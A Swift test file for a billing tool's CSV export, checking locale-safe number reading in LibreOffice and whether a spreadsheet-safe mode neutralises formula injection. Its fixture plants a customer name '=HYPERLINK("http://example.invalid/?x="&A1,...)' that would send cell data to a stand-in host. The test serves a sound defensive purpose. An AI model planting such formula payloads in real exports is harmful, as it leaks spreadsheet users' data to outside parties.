import Export
import Foundation
import GRDB
import Testing
import VendorSandbox
import Warehouse

/// The CSV variants opened the way a spreadsheet user opens them, in headless LibreOffice.
@Suite(.serialized) struct SpreadsheetEndToEndTests {
    static let formula = "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"Klik hier\")"

    /// Opened in the other locale, no number cell differs from the database's value: every
    /// amount and quantity either reads as the exact number or stays text.
    @Test func theWrongLocaleNeverChangesANumber() async throws {
        let harness = try await Harness.start(twotcloud: true)
        try await stopping(harness) {
            _ = try await harness.backfillAndReconcile()
            let expected = try harness.read { db in
                try Row.fetchAll(db, sql: """
                    SELECT quantity_bought, quantity_billed, cost_micros, sell_micros, margin_micros, vat_micros FROM purchases_export
                    ORDER BY \(PurchasesExport.orderBy)
                    """).map { row in [row[0] as String?, row[1] as String?] + (2..<6).map { (row[$0] as Int64?).map { Money(micros: $0).formatted(minimumDecimals: 0) } } }
            }
            let values: [String] = expected.flatMap { $0 }.compactMap { $0 }
            let threeDecimals = values.filter { $0.contains(".") && $0.split(separator: ".").last?.count == 3 }.count
            try #require(threeDecimals > 10, "\(values.prefix(20))")
            let columns = ["quantity_bought", "quantity_billed", "cost", "sell", "margin", "vat"].map { PurchasesExport.columns.firstIndex(of: $0)! }
            for (variant, options, locale) in [("default", [String](), LibreOffice.dutch),
                                               ("dutch", ["--delimiter", ";", "--decimal-comma", "--bom"], LibreOffice.english)] {
                let csv = harness.directory.appendingPathComponent("\(variant).csv")
                let export = try await runBillwh(["export", "purchases", "--db", harness.databasePath, "--out", csv.path] + options)
                #expect(export.status == 0, "\(export.stderr)")
                let converted = try await LibreOffice.convertToCSV(csv, importOptions: LibreOffice.csvImport(separator: variant == "dutch" ? ";" : ",", locale: locale),
                                                             folder: harness.directory)
                let cells = try AccountingExportTests.readCSV(converted.path).dropFirst()
                try #require(cells.count == expected.count)
                var differing: [String] = []
                for (row, values) in zip(cells, expected) {
                    for (index, column) in columns.enumerated() {
                        let cell = row[column].replacingOccurrences(of: ",", with: ".")
                        let same = switch (values[index], cell.isEmpty) {
                        case (nil, true): true
                        case (let value?, false): (try? ExactDecimal(parsing: cell)) == (try? ExactDecimal(parsing: value))
                        default: false
                        }
                        if !same { differing.append("\(variant) \(PurchasesExport.columns[column]): \(values[index] ?? "NULL") read as \(row[column])") }
                    }
                }
                #expect(differing.isEmpty, "\(differing.prefix(10))")
            }
        }
    }

    /// A customer named `=HYPERLINK(...)` by the vendor: a formula in a spreadsheet opening the
    /// default CSV, text in the spreadsheet-safe CSV, where its name reads back after the `'`.
    @Test func aFormulaNameStaysText() async throws {
        let harness = try await Harness.start { configuration in
            for index in configuration.copacoData.invoices.indices {
                for c in configuration.copacoData.invoices[index].customers.indices where configuration.copacoData.invoices[index].customers[c].customerNumber == "000417" {
                    configuration.copacoData.invoices[index].customers[c].companyName = Self.formula
                }
            }
            for index in configuration.copacoData.specifications.indices {
                for c in configuration.copacoData.specifications[index].customers.indices where configuration.copacoData.specifications[index].customers[c].customerNumber == "000417" {
                    configuration.copacoData.specifications[index].customers[c].companyName = Self.formula
                }
            }
        }
        try await stopping(harness) {
            _ = try await harness.backfillAndReconcile()
            #expect(try harness.scalar("SELECT count(*) FROM purchases WHERE customer_name = '\(Self.formula.replacingOccurrences(of: "'", with: "''"))'") > 0)
            for (variant, options) in [("default", [String]()), ("safe", ["--spreadsheet-safe"])] {
                let csv = harness.directory.appendingPathComponent("\(variant).csv")
                let export = try await runBillwh(["export", "purchases", "--db", harness.databasePath, "--month", "2026-10", "--out", csv.path] + options)
                #expect(export.status == 0, "\(export.stderr)")
                let names = try AccountingExportTests.readCSV(csv.path).dropFirst().map { $0[4] }
                #expect(names.contains(variant == "safe" ? "'" + Self.formula : Self.formula))
                let sheet = try await LibreOffice.convert(csv, importOptions: LibreOffice.csvImport(separator: ",", locale: LibreOffice.english),
                                                    to: "fods", folder: harness.directory)
                let formulas = try String(contentsOf: sheet, encoding: .utf8).components(separatedBy: "table:formula=").count - 1
                if variant == "safe" { #expect(formulas == 0) } else { #expect(formulas > 0) }
            }
        }
    }
}
